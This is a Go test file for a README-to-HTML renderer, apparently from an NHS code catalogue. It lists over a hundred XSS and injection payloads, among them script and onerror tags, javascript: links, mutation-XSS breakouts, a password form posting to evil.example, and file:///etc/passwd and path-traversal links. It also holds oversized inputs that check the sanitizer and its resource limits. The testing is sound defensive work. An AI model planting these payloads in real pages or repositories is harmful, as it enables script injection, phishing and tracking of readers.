package readme

import (
	"bytes"
	"fmt"
	"slices"
	"strings"
	"testing"
	"time"

	"github.com/nhs-code-catalogue/catalogue/generator/catalogue"
)

// hostile READMEs, each with what it tries. gone lists what must not be in the
// page in any form, kept what an honest reader must still see.
var hostile = []struct{ name, text, gone, kept string }{
	{"script", "a <script>alert(1)</script> b", "<script", "b"},
	{"script block", "<script>\nalert(1)\n</script>\n\nafter", "alert(1)", "after"},
	{"script upper case", "<SCRIPT SRC=//evil.example/x.js></SCRIPT>\n\nafter", "evil.example", "after"},
	{"script unclosed", "<script>alert(1)\n\nafter", "<script", "after"},
	{"script with slash", "<script/x>alert(1)</script>\n\nafter", "<script", "after"},
	{"script within script", "<scr<script>ipt>alert(1)</scr</script>ipt>\n\nafter", "<script", "after"},
	{"script from a comment", "<scr<!-- -->ipt>alert(1)</script>\n\nafter", "<script", "after"},
	{"script by null", "<scr\x00ipt>alert(1)</scr\x00ipt>\n\nafter", "<script", "after"},
	{"script in svg", "<svg><script>alert(1)</script></svg>\n\nafter", "alert", "after"},
	{"svg onload", "<svg onload=alert(1)>\n\nafter", "onload", "after"},
	{"svg animate", "<svg><a xlink:href=javascript:alert(1)><animate attributeName=href values=javascript:alert(1) /><text x=20 y=20>x</text></a></svg>\n\nafter", "javascript", "after"},
	{"svg use", "<svg><use href=\"data:image/svg+xml,<svg id='x' onload='alert(1)'/>#x\"/></svg>\n\nafter", "data:", "after"},
	{"svg style", "<svg><style><img src=x onerror=alert(1)></style></svg>\n\nafter", "<img", "after"},
	{"svg title breakout", "<svg><title><a id='</title><img src=x onerror=alert(1)>'></a></title></svg>\n\nafter", "<img", "after"},
	{"math", "<math><mtext><table><mglyph><style><!--</style><img title=\"--&gt;&lt;img src=1 onerror=alert(1)&gt;\">\n\nafter", "<img", "after"},
	{"math href", "<math href=\"javascript:alert(1)\">x</math>\n\nafter", "javascript", "after"},
	{"math annotation", "<math><annotation-xml encoding=\"text/html\"><style><img src=x onerror=alert(1)></style></annotation-xml></math>\n\nafter", "<img", "after"},
	{"mXSS noscript", "<noscript><p title=\"</noscript><img src=x onerror=alert(1)>\">\n\nafter", "<img", "after"},
	{"mXSS form", "<form><math><mtext></form><form><mglyph><style></math><img src onerror=alert(1)>\n\nafter", "<img", "after"},
	{"mXSS template", "<template><style></template><img src=x onerror=alert(1)>\n\nafter", "<img", "after"},
	{"mXSS select", "<select><template><style><!--</style><img src=x onerror=alert(1)></template></select>\n\nafter", "<img", "after"},
	{"mXSS xmp", "<xmp><p title=\"</xmp><img src=x onerror=alert(1)>\">\n\nafter", "<img", "after"},
	{"mXSS listing", "<listing>&lt;img src=x onerror=alert(1)&gt;</listing>\n\nafter", "<img", "after"},
	{"mXSS attribute", "<a title=\"`<img src=x onerror=alert(1)>`\">x</a>\n\nafter", "<img", "after"},
	{"img onerror", "<img src=x onerror=alert(1)>\n\nafter", "onerror", "after"},
	{"img onerror slash", "<img/src=x/onerror=alert(1)>\n\nafter", "<img", "after"},
	{"img from elsewhere", "![x](https://evil.example/x.png)", "<img", "x"},
	{"img srcset", "<img src=logo.svg srcset='https://evil.example/x.png 2x' alt=logo>\n\nafter", "evil.example", "after"},
	{"img protocol relative", "<img src=//evil.example/x.png alt=picture>\n\nafter", "<img", "picture"},
	{"img backslashes", `<img src="\\evil.example\x.png" alt=picture>` + "\n\nafter", "<img", "picture"},
	{"img data", "![pic](data:image/svg+xml;base64,PHN2Zz4=)", "data:", "pic"},
	{"img pixel", "<img src=https://evil.example/p width=1 height=1>\n\nafter", "evil.example", "after"},
	{"picture source", "<picture><source srcset=https://evil.example/a.webp><img src=logo.svg alt=Logo></picture>\n\nafter", "evil.example", "after"},
	{"video poster", "<video src=https://evil.example/v.mp4 poster=https://evil.example/p.png autoplay></video>\n\nafter", "poster", "after"},
	{"audio", "<audio src=https://evil.example/a.mp3 autoplay></audio>\n\nafter", "autoplay", "after"},
	{"iframe", "<iframe src=https://evil.example></iframe>\n\nafter", "<iframe", "after"},
	{"iframe srcdoc", "<iframe srcdoc='<script>alert(1)</script>'></iframe>\n\nafter", "<iframe", "after"},
	{"object", "<object data=https://evil.example/x.swf></object>\n\nafter", "<object", "after"},
	{"embed", "<embed src=https://evil.example/x.swf>\n\nafter", "evil.example", "after"},
	{"link stylesheet", "<link rel=stylesheet href=https://evil.example/x.css>\n\nafter", "evil.example", "after"},
	{"meta refresh", "<meta http-equiv=refresh content='0;url=https://evil.example'>\n\nafter", "evil.example", "after"},
	{"base", "<base href=https://evil.example/>\n\n[x](y)", "evil.example", "x"},
	{"style element", "<style>body{display:none}</style>\n\nafter", "display", "after"},
	{"style unclosed", "<style>\nbody{}\n\nafter", "<style", "after"},
	{"style attribute", "<p style='position:fixed;inset:0;background:url(https://evil.example)'>over</p>", "style=", "over"},
	{"style import", "<style>@import 'https://evil.example/x.css'</style>\n\nafter", "evil.example", "after"},
	{"background attribute", "<table background=https://evil.example/x.png><tr><td background=https://evil.example/y.png>cell</table>", "evil.example", "cell"},
	{"javascript link", "[x](javascript:alert(1))", "javascript", "x"},
	{"javascript mixed case", "[x](JaVaScRiPt:alert(1))", "alert", "x"},
	{"javascript entities", "[x](&#106;avascript:alert(1))", "alert", "x"},
	{"javascript colon entity", "<a href='javascript&colon;alert(1)'>x</a>", "alert", "x"},
	{"javascript tab", "<a href='java\tscript:alert(1)'>x</a>", "alert", "x"},
	{"javascript newline entity", "<a href='java&NewLine;script:alert(1)'>x</a>", "alert", "x"},
	{"javascript leading control", "<a href='&#1;javascript:alert(1)'>x</a>", "alert", "x"},
	{"javascript leading space", "[x](<  javascript:alert(1)>)", "=\"javascript", "x"},
	{"javascript reference", "[x][y]\n\n[y]: javascript:alert(1)", "alert", "x"},
	{"javascript autolink", "<javascript:alert(1)> after", "href", "after"},
	{"vbscript", "[x](vbscript:msgbox(1))", "msgbox", "x"},
	{"data link", "[x](data:text/html;base64,PHNjcmlwdD4=)", "base64", "x"},
	{"blob link", "[x](blob:https://evil.example/1)", "evil.example", "x"},
	{"file link", "[x](file:///etc/passwd)", "passwd", "x"},
	{"view-source", "[x](view-source:https://evil.example)", "evil.example", "x"},
	{"feed javascript", "[x](feed:javascript:alert(1))", "alert", "x"},
	{"quote in address", "[x](https://a.example/\"onmouseover=alert(1)//)", "\"onmouseover", "x"},
	{"quote in title", "[x](https://a.example 'a\" onmouseover=alert(1) b')", "onmouseover", "x"},
	{"quote in alt", "![a\" onerror=alert(1) b](logo.svg)", "\" onerror", "onerror"},
	{"event handlers", "<p onclick=alert(1) onmouseover=alert(2) onfocus=alert(3) tabindex=1 autofocus>p</p>", "alert", "p"},
	{"details ontoggle", "<details open ontoggle=alert(1)><summary>more</summary>text</details>", "ontoggle", "more"},
	{"form", "<form action=https://evil.example><input name=password type=password><button>Sign in</button></form>\n\nafter", "evil.example", "Sign in"},
	{"formaction", "<button formaction=javascript:alert(1)>go</button>", "alert", "go"},
	{"input image", "<input type=image src=https://evil.example/x.png>\n\nafter", "evil.example", "after"},
	{"isindex", "<isindex type=image src=1 onerror=alert(1)>\n\nafter", "<isindex", "after"},
	{"clobber getElementById", "<form id=results><input name=attributes></form><a id=result-count></a>\n\nafter", "id=\"result", "after"},
	{"clobber referenced", "<a id=results></a>\n\n[up](#results)", "id=\"results\"", "up"},
	{"clobber name", "<img name=getElementById src=logo.svg alt=l><a name=config href=x>c</a>", "name=", "c"},
	{"clobber heading", "# results\n\n# search\n\n# main", "id=\"results\"", "search"},
	{"clobber proto", "# __proto__\n\n# constructor\n\n[a](#constructor)", "id=\"__proto__\"", "constructor"},
	{"data attributes", "<p data-component=evil/evil data-search=ready>text</p>", "data-", "text"},
	{"aria tricks", "<p role=alert aria-live=assertive aria-hidden=true hidden>text</p>", "aria-", "text"},
	{"class tricks", "<div class='nhsuk-header app-modal'>text</div>", "nhsuk-header", "text"},
	{"close article", "</article></main></body></html>\n\nafter", "</article", "after"},
	{"close div", "</div></div></div></div>\n\nafter", "</div", "after"},
	{"open div", "<div><div><div><div>\n\nafter", "", "after"},
	{"open table", "<table><tr><td>\n\nafter", "", "after"},
	{"open select", "<select><option>\n\nafter", "<select", "after"},
	{"open textarea", "<textarea>\n\nafter", "<textarea", "after"},
	{"open title", "<title>\n\nafter", "<title", "after"},
	{"open comment", "before\n\n<!-- \n\nafter", "<!--", "before"},
	{"open plaintext", "<plaintext>\n\nafter", "<plaintext", "after"},
	{"open attribute", "<a href=\"\n\nafter", "<a", "after"},
	{"open svg", "<svg><g>\n\nafter", "<svg", "after"},
	{"landmarks", "<main><nav><header><footer><aside>text</aside></footer></header></nav></main>", "<nav", "text"},
	{"frameset", "<frameset><frame src=https://evil.example></frameset>\n\nafter", "<frame", "after"},
	{"dialog", "<dialog open>Sign in again</dialog>\n\nafter", "<dialog", "after"},
	{"marquee", "<marquee onstart=alert(1)>news</marquee>", "marquee", "news"},
	{"template syntax", "{{ constructor.constructor('alert(1)')() }} {% raw %} ${alert(1)} <%= x %>", "<%", "{{ constructor"},
	{"CDATA", "<![CDATA[<script>alert(1)</script>]]>\n\nafter", "<script", "after"},
	{"processing instruction", "<?php echo '<script>alert(1)</script>' ?>\n\nafter", "<script", "after"},
	{"doctype", "<!DOCTYPE html [<!ENTITY x SYSTEM 'file:///etc/passwd'>]>\n\nafter", "<!DOCTYPE", "after"},
	{"conditional comment", "<!--[if IE]><script>alert(1)</script><![endif]-->\n\nafter", "alert", "after"},
	{"code fence language", "```\"><script>alert(1)</script>\nx := 1\n```", "<script", "x := 1"},
	{"code fence class", "```js\" onload=\"alert(1)\nx\n```", "onload", "x"},
	{"footnote", "a[^<script>]\n\n[^<script>]: <img src=x onerror=alert(1)>", "<script", "a"},
	{"emoji", ":<script>: after", "<script", "after"},
	{"table cell", "| a | b |\n|---|---|\n| <img src=x onerror=alert(1)> | </td></table><script>alert(1)</script> |", "<script", "a"},
	{"bidi override", "access \u202euser\u202c granted \u2066x\u2069", "\u202e", "granted"},
	{"user in address", "[x](https://github.com@evil.example/)", "github.com@", "x"},
	{"climbing path", "[x](../../../../etc/passwd)", "..", "x"},
	{"climbing by %2e", "[x](%2e%2e/%2e%2e/%2e%2e/etc/passwd)", "%2e", "x"},
	{"javascript image path", "![x](javascript:alert(1))", "alert", "x"},
	{"nested links", "<a href=https://a.example><a href=https://b.example>x</a></a>", "", "x"},
	{"ping", "<a href=https://a.example ping=https://evil.example target=_blank download>x</a>", "ping", "x"},
	{"usemap", "<img src=logo.svg alt=l usemap=#m><map name=m><area href=javascript:alert(1)></map>\n\nafter", "alert", "after"},
	{"portal", "<portal src=https://evil.example></portal>\n\nafter", "<portal", "after"},
	{"custom element", "<nhs-header onclick=alert(1)>x</nhs-header>", "<nhs-header", "x"},
	{"slot", "<slot name=x>text</slot>", "slot", "text"},
	{"bom", "\xef\xbb\xbf<script>alert(1)</script>\n\nafter", "alert(1)", "after"},
	{"overlong utf-8", "\xc0\xbcscript>alert(1)\n\nafter", "<script", "after"},
	{"utf-7", "+ADw-script+AD4-alert(1)+ADw-/script+AD4-", "<script", "alert"},
}

// TestHostile holds the promise that nothing a stranger writes runs, loads,
// overlays, clobbers or swallows anything, and that what else they wrote is
// still there.
func TestHostile(t *testing.T) {
	for _, h := range hostile {
		t.Run(h.name, func(t *testing.T) {
			r := mustBeSafe(t, sampleSource("README.md", h.text))
			out := string(r.HTML)
			if h.gone != "" && strings.Contains(out, h.gone) {
				t.Errorf("%q is still in %s", h.gone, out)
			}
			if !strings.Contains(out, strings.ReplaceAll(h.kept, "'", "&#39;")) {
				t.Errorf("%q is lost from %s", h.kept, out)
			}
			for _, name := range []string{"README.rst", "README.adoc", "README.org", "README"} {
				mustBeSafe(t, sampleSource(name, h.text))
			}
		})
	}
}

// maxTime is what one README may take, wall time, on a machine that does much
// else; alone it takes a tenth.
const maxTime = 30 * time.Second

// TestHostileSizes holds the promise that no README costs more than seconds or
// breaks anything, however deep or long it is.
func TestHostileSizes(t *testing.T) {
	repeat := func(s string) string { return strings.Repeat(s, (1<<20)/len(s)) }
	many := map[string]string{
		"quotes": strings.Repeat(">", 10000) + " x", "quotes on each line": repeat(strings.Repeat("> ", 90) + "x\n"),
		"lists": strings.Repeat("- ", 10000) + "x", "divs": strings.Repeat("<div>", 10000) + "x", "spans": repeat("<b>"),
		"brackets": repeat("["), "images": repeat("!["), "links": repeat("[a]("), "stars": repeat("*a_"), "open stars": repeat("**"),
		"backticks": repeat("`` ` "), "angle brackets": repeat("<"), "ampersands": repeat("&"), "pipes": repeat("|a"),
		"tables": repeat("|a|b|\n|-|-|\n|c|d|\n\n"), "wide table": strings.Repeat("|a", 5000) + "\n" + strings.Repeat("|-", 5000) + "\n" + strings.Repeat("|b\n", 100000),
		"many footnotes": manyFootnotes(20_000), "numbered lists": strings.Repeat("1. ", 20_000),
		"references": repeat("[a]: b\n[a]\n"), "footnotes": repeat("[^1]: a\n"), "footnote uses": "[^1]: a\n\n" + repeat("[^1] "),
		"headings": repeat("# a\n"), "headings nested": repeat("###### a\n# b\n"), "emoji": repeat(":a"), "at signs": repeat("a@"), "www": repeat("www."),
		"formatting": strings.Repeat("<b a=1><i>", 500) + repeat("<p>x"), "closing tags": repeat("a</b>"), "rows": repeat("a<tr>"),
		"links by tag": repeat("<a href=x>"), "comments": repeat("<!--"), "instructions": repeat("<?"), "declarations": repeat("<!A "), "cdata": repeat("<![CDATA["),
		"attributes": "<p " + repeat("a "), "one line": repeat("word "), "spaces": "a" + repeat(" "), "newlines": repeat("\n"), "tabs": repeat("\t"),
		"scripts": repeat("<script>"), "svgs": repeat("<svg><p>"), "tildes": repeat("~~a"), "underscores": repeat("_a"), "backslashes": repeat(`\`),
		"nul": repeat("\x00"), "invalid": repeat("\xff"), "indented lists": indentedLists(1000), "code": "```go\n" + repeat("func(((\"") + "\n```",
		"bash": "```bash\n" + strings.Repeat("${${$(", 2700) + "\n```", "html code": "```html\n" + strings.Repeat("<a <a ", 2700) + "\n```", "yaml": "```yaml\n" + strings.Repeat("a: [{", 3200) + "\n```",
		"anchors": repeat("<a id=a></a>[x](#a)"), "details": repeat("<details><summary>"), "underlines": repeat("a\n=\n"), "colons": repeat("::\n\n a\n\n"), "stars in rst": repeat("*a |b| `c` "),
		"inline html": repeat("a <b>c</b> "), "autolinks": repeat("<http://a.b> "), "bare links": repeat("http://a.b/c "), "nested emphasis": repeat("*a **b "), "task": repeat("- [ ] a\n"),
	}
	for name, text := range many {
		for _, path := range []string{"README.md", "README.rst", "README"} {
			if path != "README.md" {
				text = text[:min(len(text), 128<<10)]
			}
			src := sampleSource(path, text)
			before := time.Now()
			r := mustRender(t, src)
			Parse(src)
			if took := time.Since(before); took > maxTime {
				t.Errorf("%s in %s took %v", name, path, took)
			}
			if wrong := unbalanced(string(r.HTML)); len(wrong) > 0 {
				t.Errorf("%s in %s: %v", name, path, wrong)
			}
		}
	}
}

// TestLimits holds the promise that no README makes a page that keeps a browser
// busy: what goes beyond a limit is left out, which the page and a problem say,
// and links to what is left out lead to the repository.
func TestLimits(t *testing.T) {
	for _, c := range []struct{ text, problem string }{
		{strings.Repeat("# x\n", 3000), "has more than 2000 headings"},
		{strings.Repeat("- x\n", 30_000), "makes a page of more than 25000 elements"},
		{strings.Repeat("a<br>\n\n", 30_000), "makes a page of more than 25000 elements"},
		{strings.Repeat("<details>x</details>\n\n", 7000), "makes a page of more than 25000 elements"},
		{strings.Repeat("```\nx\n```\n\n", 3000), "has more than 2000 tables and blocks of code"},
		{strings.Repeat("|a|\n|-|\n\n", 3000), "has more than 2000 tables and blocks of code"},
		{rows(1, strings.Repeat("<td>x\n\n", 300)), "has a table of more than 200 columns"},
		{rows(1, strings.Repeat("<td colspan=9>x\n\n", 30)), "has a table of more than 200 columns"},
		{rows(9, strings.Repeat("<td rowspan=99 colspan=2>x\n\n", 19)), "has a table of more than 200 columns"},
		{strings.Repeat("a א ", 6000), "has more than 5000 letters and signs beyond Latin in one paragraph"},
		{strings.Repeat("ภาษาไทย", 1000), "has more than 5000 letters and signs beyond Latin in one paragraph"},
		{"```\n" + strings.Repeat("a א\n", 6000) + "```\n", "has more than 5000 letters and signs beyond Latin in one paragraph"},
		{"# " + strings.Repeat("<p id=a>[x](#a)слова ", 1500), "has more than 5000 letters and signs beyond Latin in one paragraph"},
	} {
		src := sampleSource("README.md", "[to the end](#the-end)\n\n"+c.text+"\n\n# The end\n\n"+"the very end")
		r := mustBeSafe(t, src)
		out := string(r.HTML)
		if !slices.ContainsFunc(r.Problems, func(p catalogue.Problem) bool { return strings.Contains(p.What, c.problem) }) {
			t.Errorf("%.20q: no problem says that it %s: %v", c.text, c.problem, r.Problems)
		}
		if strings.Contains(out, "the very end") || !strings.Contains(out, "Read the rest in the repository") {
			t.Errorf("%.20q: the page does not say that the rest is left out", c.text)
		}
		if elements := strings.Count(out, "<") - strings.Count(out, "</"); elements > maxElements+100 {
			t.Errorf("%.20q: a page of %d elements", c.text, elements)
		}
		if !strings.Contains(out, `/README.md#the-end">to the end`) {
			t.Errorf("%.20q: the link to what is left out leads nowhere: %.200s", c.text, out)
		}
	}
}

// TestCostlyIsPlain holds the promise that what costs the square of its length to
// read as Markdown is shown as plain text, which is said, and that what only
// looks like it is read as Markdown.
func TestCostlyIsPlain(t *testing.T) {
	for text, want := range map[string]bool{
		manyFootnotes(3000):           true,
		manyFootnotes(500):            false,
		strings.Repeat("1. ", 200):    true,
		strings.Repeat("1) > ", 200):  true,
		strings.Repeat(".", 300):      false,
		strings.Repeat("1.2.3.", 300): false,
		strings.Repeat("2026 ", 300):  false,
	} {
		r := mustBeSafe(t, sampleSource("README.md", text))
		plain := slices.ContainsFunc(r.Problems, func(p catalogue.Problem) bool { return strings.Contains(p.What, "shown as plain text") })
		if plain != want {
			t.Errorf("%.20q: plain %v, problems %v", text, plain, r.Problems)
		}
	}
}

// TestLongIsWhole holds the promise that no honest README meets a limit, though
// it be the longest of its sort.
func TestLongIsWhole(t *testing.T) {
	for _, text := range []string{
		strings.Repeat("- [name](https://a.example/b) - what it is\n", 10_000),
		strings.Repeat("# Section\n\nwords of this section\n\n- item\n", 1500),
		strings.Repeat("|a|b|c|d|e|\n|-|-|-|-|-|\n"+strings.Repeat("|1|2|3|4|5|\n", 10)+"\n", 300),
		rows(100, "<td rowspan=3>x<td colspan=4>y") + rows(100, "<td>x<td colspan=100>y"),
		strings.Repeat(strings.Repeat("Слово за словом ", 60)+"\n\n", 500),
		"```\n" + strings.Repeat("│   ├── folder\n", 3000) + "```\n",
	} {
		r := mustBeSafe(t, sampleSource("README.md", text+"\n\nthe very end"))
		if len(r.Problems) > 0 || !strings.Contains(string(r.HTML), "the very end") {
			t.Errorf("%.20q is cut: %v", text, r.Problems)
		}
	}
}

// rows is a table in HTML of as many rows.
func rows(count int, row string) string {
	return "<table>\n" + strings.Repeat("<tr>"+row+"\n", count) + "</table>\n\n"
}

func mustRender(t *testing.T, src Source) Rendered {
	t.Helper()
	r := Render(src)
	return r
}

// manyFootnotes each mention the next.
func manyFootnotes(count int) string {
	var b strings.Builder
	for i := range count {
		fmt.Fprintf(&b, "a[^%d]\n\n[^%d]: b[^%d]\n\n", i, i, (i+1)%count)
	}
	return b.String()
}

func indentedLists(depth int) string {
	var b bytes.Buffer
	for i := range depth {
		fmt.Fprintf(&b, "%s- x\n", strings.Repeat("  ", i))
	}
	return b.String()
}
